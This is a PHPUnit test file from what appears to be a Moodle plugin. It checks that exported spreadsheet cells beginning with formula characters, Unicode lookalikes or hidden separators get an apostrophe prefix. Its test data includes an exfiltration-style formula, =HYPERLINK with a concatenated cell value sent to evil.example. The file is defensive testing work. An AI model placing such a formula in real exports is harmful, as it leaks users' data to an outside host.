<?php
// This file is part of Moodle - https://moodle.org/
//
// Moodle is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// Moodle is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with Moodle.  If not, see <https://www.gnu.org/licenses/>.

declare(strict_types=1);

namespace local_mcpgate\record;

use local_mcpgate\local\record\spreadsheet_cell;
use PHPUnit\Framework\TestCase;

/**
 * What a spreadsheet is given to open.
 *
 * @package    local_mcpgate
 * @copyright  2026 Moodle MCP contributors
 * @license    https://www.gnu.org/copyleft/gpl.html GNU GPL v3 or later
 */
final class spreadsheet_cell_test extends TestCase {

    /**
     * Nothing a spreadsheet would run begins a cell.
     *
     * @dataProvider formulas
     * @param string $text
     */
    public function test_a_formula_has_an_apostrophe_before_it(string $text): void {
        $this->assertSame("'{$text}", spreadsheet_cell::of($text));
    }

    /**
     * What spreadsheets run, or skip on their way to it.
     *
     * @return array
     */
    public static function formulas(): array {
        return [
            ['=1+1'], ['+1'], ['-1'], ['@SUM(A1)'], ["\ttext"], ["\rtext"], ["\ntext"],
            [' =1'], ["\u{a0}=1"], ["\u{3000}=1"], ["\u{200b}=1"], ["\u{202e}=1"], ["\u{feff}+1"], ['"=1'], ["'=1"], [' " =1'],
            ["\u{ff1d}1"], ["\u{ff0b}1"], ["\u{ff0d}1"], ["\u{ff20}A"], ["\u{fe66}1"], ["\u{fe62}1"], ["\u{fe63}1"],
            ["\u{fe6b}A"], ["\u{2212}1"], ['=HYPERLINK("https://evil.example/?"&A1)'], ['-'],
        ];
    }

    /**
     * A spreadsheet of another language begins a cell elsewhere.
     *
     * @dataProvider hidden
     * @param string $text
     * @param string $cell
     */
    public function test_a_formula_behind_another_separator_has_one_too(string $text, string $cell): void {
        $this->assertSame($cell, spreadsheet_cell::of($text));
    }

    /**
     * Formulas that begin a cell only where something else separates cells.
     *
     * @return array
     */
    public static function hidden(): array {
        return [
            ['x;=1', "x;'=1"],
            ['x;"=1', "x;'\"=1"],
            ['x, =1', "x,' =1"],
            ["x\t+1", "x\t'+1"],
            ["x\r\n -1", "x\r\n' -1"],
            ["\t=1", "'\t'=1"],
            ["\r\n=1", "'\r\n'=1"],
            ['x|@A', "x|'@A"],
            ['=1;=2', "'=1;'=2"],
        ];
    }

    /**
     * What is no formula stays as it is.
     *
     * @dataProvider harmless
     * @param string|int $value
     */
    public function test_other_values_stay_as_they_are($value): void {
        $this->assertSame($value, spreadsheet_cell::of($value));
    }

    /**
     * What a spreadsheet takes for text or a number.
     *
     * @return array
     */
    public static function harmless(): array {
        return [
            [''], ['a=b'], ['core_course_get_contents'], ['Mozilla/5.0 (X11; Linux x86_64) a-b/1.0'], ['2026-11-23T06:00:00Z'],
            ['192.0.2.7'], ['2001:db8::7'], ["\u{5d0}\u{5d1} caf\u{e9}"], ['a, b; c'], [7], [-7], [0],
        ];
    }

    /**
     * Nothing is an empty cell, and bytes that are no text cannot get past.
     */
    public function test_nothing_and_broken_text_have_a_cell(): void {
        $this->assertSame('', spreadsheet_cell::of(null));
        $this->assertSame(['?=1', "'=?1"], [spreadsheet_cell::of("\xff=1"), spreadsheet_cell::of("=\xff1")]);
    }
}
